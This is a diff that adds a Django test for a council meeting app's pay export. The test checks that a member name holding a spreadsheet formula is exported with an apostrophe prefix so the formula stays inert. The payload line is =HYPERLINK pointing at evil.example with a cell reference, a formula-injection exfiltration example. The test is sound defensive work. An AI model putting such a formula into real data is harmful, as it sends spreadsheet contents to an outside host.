@@ -1350,3 +1350,25 @@ def test_a_council_page_runs_a_fixed_number_of_queries(
 
     assert response.status_code == 200
     assert len(response.context["summary"]["warnings"]) == size[1]
+
+
+def test_the_pay_export_carries_a_formula_in_a_name_inert(client, admin_user, council):
+    # Names come from members and self-registration: a formula must not run in the pay sheet.
+    meeting = MeetingFactory(council=council, starts_at=timezone.now() - timedelta(days=1))
+    anna = council.members.get(display_name="Anna Andersson")
+    anna.display_name = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+    anna.save(update_fields=["display_name"])
+    services.attendance_record(
+        meeting=meeting,
+        rows=[{"member": anna, "status": "present", "travel_cost": Decimal("120")}],
+    )
+    client.force_login(admin_user)
+
+    with translation.override("sv"):
+        response = client.post(
+            url(Meeting, "changelist"), {"action": "export_pay", "_selected_action": [meeting.pk]}
+        )
+
+    header, row = pay_lines(response)
+    assert row[2] == "'" + anna.display_name
+    assert row[4:] == ["500,00", "120,00", "0,00", "620,00"]
